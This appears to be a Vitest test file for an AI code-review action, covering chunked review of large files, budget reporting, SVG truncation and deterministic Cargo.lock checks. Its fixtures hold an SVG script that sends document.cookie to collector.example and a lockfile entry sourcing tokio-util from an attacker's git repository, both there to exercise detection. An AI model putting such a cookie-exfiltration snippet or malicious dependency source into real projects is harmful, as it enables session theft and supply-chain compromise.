/**
 * Big files through the built action (issue 29 §3, §4): a new 3,000-line
 * source file and a rewritten changelog are reviewed in parts with coverage
 * complete, and a finding in a later part lands on its line; the security
 * lane's list of omitted files is capped; an SVG reaches the prompts cut
 * short, with its script as a fact; Cargo.lock is checked deterministically
 * instead of read line by line.
 */
import { afterAll, describe, expect, it } from "vitest";
import { jsonReply, type RecordedRequest } from "../support/modelServer.js";
import { pullRequestPayload, removeTempDirs, runAction } from "../support/actionHarness.js";
import { ADVERSARY, REVIEW_CHUNK, SECURITY, VERIFY_ONE, promptText, requestsFor, verifyByReading } from "./support/model.js";
import { describeRun, onlyCheck, outputFiles, startScenario, type Scenario } from "./support/scenario.js";

afterAll(removeTempDirs);

/** A Rust source of `functions` functions, 10 lines each, about 48 characters a line. */
function rustSource(functions: number): string {
  const lines: string[] = [];
  for (let f = 0; f < functions; f++) {
    lines.push(`/// Scales the reading of sensor ${f}.`, `pub fn scale_${f}(reading: u64, factor: u64) -> u64 {`);
    for (let l = 0; l < 5; l++) lines.push(`    let step_${l} = reading.wrapping_mul(factor + ${f * 10 + l});`);
    lines.push("    step_4 / factor", "}", "");
  }
  return `${lines.join("\n")}\n`;
}

const ENGINE = rustSource(300);
const ENGINE_LINES = ENGINE.split("\n").slice(0, -1);
/** A line far into the file's second part: `step_4 / factor` of function 250. */
const LATE_LINE = 250 * 10 + 8;

async function run(scenario: Scenario, inputs: Record<string, string> = {}) {
  const { repo, fake, model } = scenario;
  const result = await runAction({
    event: "pull_request",
    payload: pullRequestPayload(repo),
    workspace: repo.workspace("merge", { depth: 1 }),
    fake,
    model,
    sha: repo.mergeSha,
    inputs,
  });
  const story = describeRun(result, { fake, model });
  expect(result.code, story).not.toBeNull();
  const { report } = outputFiles(result);
  return { result, report, describe: story };
}

const chunkPrompts = (scenario: Scenario) => requestsFor(scenario.model, REVIEW_CHUNK).map(promptText);

describe("a file larger than a chunk", () => {
  it("a new 3,000-line source file is reviewed in parts, coverage complete, and a finding in the second part lands on its line", async ({ onTestFinished }) => {
    expect(ENGINE_LINES.length).toBe(3_000);
    expect(ENGINE.length).toBeGreaterThan(24_000 * 4);
    const late = (request: RecordedRequest) =>
      new RegExp(`^${LATE_LINE}\\+${ENGINE_LINES[LATE_LINE - 1]!.replace(/[/]/g, "\\/")}$`, "m").test(promptText(request));
    const scenario = await startScenario(
      { onTestFinished },
      {
        repo: { change: { "src/engine.rs": ENGINE } },
        routes: {
          // The model reports a finding on the line it was shown, only in the part that shows it.
          [REVIEW_CHUNK]: (request) =>
            jsonReply({
              summary: "Scaling helpers.",
              findings: late(request)
                ? [
                    {
                      severity: "🔴 CRITICAL",
                      path: "src/engine.rs",
                      start_line: LATE_LINE,
                      end_line: LATE_LINE,
                      title: "Division by zero",
                      claim: "scale_250 divides step_4 by factor, which callers may pass as 0, and panics.",
                      suggestion: "Return None for a zero factor.",
                    },
                  ]
                : [],
            }),
          [VERIFY_ONE]: verifyByReading,
        },
      },
    );
    const { result, report, describe: story } = await run(scenario);

    const prompts = chunkPrompts(scenario);
    expect(prompts.length, story).toBeGreaterThanOrEqual(2);
    const headers = prompts.map((p) => /^### src\/engine\.rs — added, \+3000 −0 \(part (\d+) of (\d+), lines (\d+)–(\d+)\)$/m.exec(p));
    expect(headers.every((h) => h !== null)).toBe(true);
    // Together the parts show every line once: from 1 to 3,000, each starting where the last ended.
    const spans = headers.map((h) => [Number(h![3]), Number(h![4])]).sort((a, b) => a[0]! - b[0]!);
    expect(spans[0]![0]).toBe(1);
    expect(spans.at(-1)![1]).toBe(3_000);
    for (let i = 1; i < spans.length; i++) expect(spans[i]![0]).toBe(spans[i - 1]![1]! + 1);
    expect(prompts.filter((p) => p.includes(`${LATE_LINE}+${ENGINE_LINES[LATE_LINE - 1]}`))).toHaveLength(1);

    expect(report).toContain("Review Coverage: complete");
    expect(report).not.toContain("over budget");
    expect(result.code, story).toBe(1);
    const check = onlyCheck(scenario.fake, scenario.repo.headSha);
    const annotation = check.output.annotations.find((a) => a.path === "src/engine.rs");
    expect(annotation).toMatchObject({ start_line: LATE_LINE, annotation_level: "failure" });
    expect(annotation!.message).toContain(`src/engine.rs:${LATE_LINE}: ${ENGINE_LINES[LATE_LINE - 1]}`);
  });

  it("a rewritten CHANGELOG.md is reviewed in parts with coverage complete, and passes", async ({ onTestFinished }) => {
    const entry = (v: string, i: number) => `- ${v}: the reader now handles input ${i} without copying the whole buffer`;
    const old = ["# Changelog", ...Array.from({ length: 700 }, (_, i) => (i % 12 === 0 ? `## 1.${700 - i}.0` : i % 12 === 1 ? "" : entry("old", i)))].join(
      "\n",
    );
    const head = ["# Changelog", ...Array.from({ length: 900 }, (_, i) => (i % 15 === 0 ? `## 2.${900 - i}.0` : i % 15 === 1 ? "" : entry("new", i)))].join(
      "\n",
    );
    const scenario = await startScenario({ onTestFinished }, { repo: { base: { "CHANGELOG.md": `${old}\n` }, change: { "CHANGELOG.md": `${head}\n` } } });
    const { result, report, describe: story } = await run(scenario);

    expect(result.code, story).toBe(0);
    const prompts = chunkPrompts(scenario);
    expect(prompts.length).toBeGreaterThanOrEqual(2);
    for (const p of prompts) expect(p).toMatch(/^### CHANGELOG\.md — modified, \+900 −700 \(part \d+ of \d+, lines \d+–\d+\)$/m);
    expect(report).toContain("Review Coverage: complete");
    expect(result.outputs.verdict).toBe("PASS");
  });
});

describe("a change past the run's chunks", () => {
  it("names the budget that left each file out, with what to do, in result.json, the check run, the job summary and the incomplete output", async ({
    onTestFinished,
  }) => {
    // 22 files of about 15k tokens: one chunk apiece, so the default 20 chunks leave two out. Each alone needs 1 chunk, and 0 are left.
    const source = (n: number) =>
      Array.from({ length: 1200 }, (_, i) => `export const value_${n}_${i} = ${i} * ${n} + ${(i * 7919) % 1000};`).join("\n") + "\n";
    const change = Object.fromEntries(Array.from({ length: 22 }, (_, n) => [`src/gen${String(n).padStart(2, "0")}.ts`, source(n)]));
    const scenario = await startScenario({ onTestFinished }, { repo: { change } });
    const { result, report, describe: story } = await run(scenario);

    expect(result.code, story).toBe(1);
    const json = outputFiles(result).result;
    const detail = "over the run's budget: needs 1 chunk, 0 left of max_chunks 20 — raise max_chunks or split the pull request";
    expect(json.coverage.complete).toBe(false);
    expect(json.coverage.not_reviewed).toHaveLength(2);
    for (const file of json.coverage.not_reviewed) {
      expect(file).toEqual({
        path: expect.stringMatching(/^src\/gen\d\d\.ts$/),
        reason: "over budget",
        budget: { kind: "run", needs: 1, left: 0, max_chunks: 20 },
        detail,
      });
    }
    expect(chunkPrompts(scenario)).toHaveLength(20);
    const lines = json.coverage.not_reviewed.map((file: { path: string }) => `- \`${file.path}\` — over budget: ${detail}`);
    const check = onlyCheck(scenario.fake, scenario.repo.headSha);
    for (const line of lines) {
      expect(report).toContain(line);
      expect(`${check.output.summary}\n${check.output.text ?? ""}`).toContain(line);
      expect(result.summary).toContain(line);
    }
    expect(report).toContain("Review Coverage: partial (2 files over budget — 2 over the run's chunks left)");
    expect(result.outputs.incomplete).toMatch(/^coverage \(2 files not reviewed: 2 files over budget — 2 over the run's chunks left\)(;|$)/);
  });
});

describe("token waste", () => {
  it("caps the omitted list in the security prompt, and an SVG reaches every prompt cut short with its script as a fact", async ({ onTestFinished }) => {
    const blob = `M0 0${Array.from({ length: 7_000 }, (_, i) => ` L${i}.5 ${i % 89}.25`).join("")}`;
    expect(blob.length).toBeGreaterThan(82_000);
    const svg = [
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24">',
      `<path d="${blob}"/>`,
      "<script>fetch('https://collector.example/?c=' + document.cookie)</script>",
      '<image href="https://tracker.example/p.png"/>',
      "</svg>",
    ].join("\n");
    // Images the base already had, redrawn: skipped as binary by their content (a NUL, and no source extension).
    const bundles = (v: number) =>
      Object.fromEntries(
        Array.from({ length: 150 }, (_, i) => [`public/img/frame_${String(i).padStart(3, "0")}.png`, `\x89PNG\r\n\x1a\n\0\0\0\rIHDR${i}-${v}\0\0`]),
      );
    const scenario = await startScenario({ onTestFinished }, { repo: { base: bundles(1), change: { "assets/icon.svg": svg, ...bundles(2) } } });
    const { result, describe: story } = await run(scenario, { lanes: "security" });

    expect(result.code, story).toBe(0);
    const security = requestsFor(scenario.model, SECURITY);
    expect(security).toHaveLength(1);
    const prompt = promptText(security[0]!);
    const omitted = prompt.slice(prompt.indexOf("Files not shown above"), prompt.indexOf("Already found by deterministic checks"));
    const named = omitted.match(/public\/img\/frame_\d+\.png \(skipped: binary\)/g) ?? [];
    expect(named).toHaveLength(60);
    expect(named[0]).toBe("public/img/frame_000.png (skipped: binary)");
    expect(omitted).toContain("… and 90 more files not named here (90 skipped: binary); list them with fs_glob or fs_ls");
    expect(prompt).toContain("- line 3: script element: `<script>`");
    expect(prompt).toContain('- line 4: reference outside the document: `href="https://tracker.example/p.png"`');
    // Not one model request, of any lane, holds the path data past its cut.
    const requests = scenario.model.requests;
    expect(requestsFor(scenario.model, REVIEW_CHUNK).length + requestsFor(scenario.model, ADVERSARY).length).toBeGreaterThan(0);
    for (const request of requests) expect(JSON.stringify(request.body)).not.toContain(blob.slice(40_000, 40_060));
  });
});

const CRATES = "registry+https://github.com/rust-lang/crates.io-index";
const cargoPackage = (name: string, version: string, source?: string, checksum?: string) =>
  [
    "[[package]]",
    `name = "${name}"`,
    `version = "${version}"`,
    ...(source ? [`source = "${source}"`] : []),
    ...(checksum ? [`checksum = "${checksum}"`] : []),
  ].join("\n");
const cargoLock = (...packages: string[]) =>
  ["# This file is automatically @generated by Cargo.", "# It is not intended for manual editing.", "version = 3", "", packages.join("\n\n"), ""].join("\n");
const BASE_LOCK = cargoLock(
  cargoPackage("app", "0.1.0"),
  cargoPackage("anyhow", "1.0.75", CRATES, "a4".repeat(32)),
  cargoPackage("serde", "1.0.188", CRATES, "cf".repeat(32)),
);

describe("Cargo.lock", () => {
  it("blocks a git source the base does not have, naming the line and what to do", async ({ onTestFinished }) => {
    const head = cargoLock(
      cargoPackage("app", "0.1.0"),
      cargoPackage("anyhow", "1.0.75", CRATES, "a4".repeat(32)),
      cargoPackage("serde", "1.0.188", CRATES, "cf".repeat(32)),
      cargoPackage("tokio-util", "0.7.9", "git+https://github.com/attacker/tokio-util?branch=main#0123abcd"),
    );
    const scenario = await startScenario({ onTestFinished }, { repo: { base: { "Cargo.lock": BASE_LOCK }, change: { "Cargo.lock": head } } });
    const { result, report, describe: story } = await run(scenario, { lanes: "security" });

    expect(result.code, story).toBe(1);
    expect(result.outputs.verdict).toBe("BLOCKED");
    const line = head.split("\n").findIndex((l) => l.includes("git+https://github.com/attacker")) + 1;
    expect(report).toContain(
      `🔴 Lockfile injection (source) — Cargo.lock:${line} — line ${line}: 'source = "git+https://github.com/attacker/tokio-util?branch=main#0123abcd"'`,
    );
    expect(report).toMatch(
      /tokio-util@0\.7\.9 is installed from a git repository the base Cargo\.lock does not use .*; depend on a published version, or add this source in a separate reviewed change\./,
    );
    for (const p of chunkPrompts(scenario)) expect(p).not.toContain("Cargo.lock — ");
  });

  it("an unchanged-registry bump is skipped from code review and passes the check", async ({ onTestFinished }) => {
    const head = cargoLock(
      cargoPackage("app", "0.1.0"),
      cargoPackage("anyhow", "1.0.79", CRATES, "b5".repeat(32)),
      cargoPackage("serde", "1.0.188", CRATES, "cf".repeat(32)),
    );
    const scenario = await startScenario(
      { onTestFinished },
      {
        repo: {
          base: { "Cargo.lock": BASE_LOCK, "src/lib.rs": "pub fn one() -> u8 { 1 }\n" },
          change: { "Cargo.lock": head, "src/lib.rs": "pub fn one() -> u8 {\n    1\n}\n" },
        },
      },
    );
    const { result, report, describe: story } = await run(scenario, { lanes: "security" });

    expect(result.code, story).toBe(0);
    expect(result.outputs.verdict).toBe("PASS");
    expect(report).toContain("- `Cargo.lock` — lockfile: checked deterministically by the security lane (registries, integrity, sources)");
    expect(report).not.toContain("Lockfile injection");
    const prompts = chunkPrompts(scenario);
    expect(prompts.length).toBeGreaterThan(0);
    for (const p of prompts) expect(p).not.toContain("anyhow");
  });
});
